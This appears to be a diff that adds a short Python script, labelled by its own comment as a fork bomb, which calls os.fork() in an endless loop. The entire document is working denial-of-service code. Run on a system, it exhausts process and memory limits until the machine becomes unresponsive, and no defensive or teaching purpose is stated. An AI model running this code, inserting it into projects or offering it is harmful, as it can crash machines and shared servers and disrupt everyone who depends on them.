@@ -1,0 +1,4 @@
+# The classic fork bomb.
+import os
+while True:
+    os.fork()
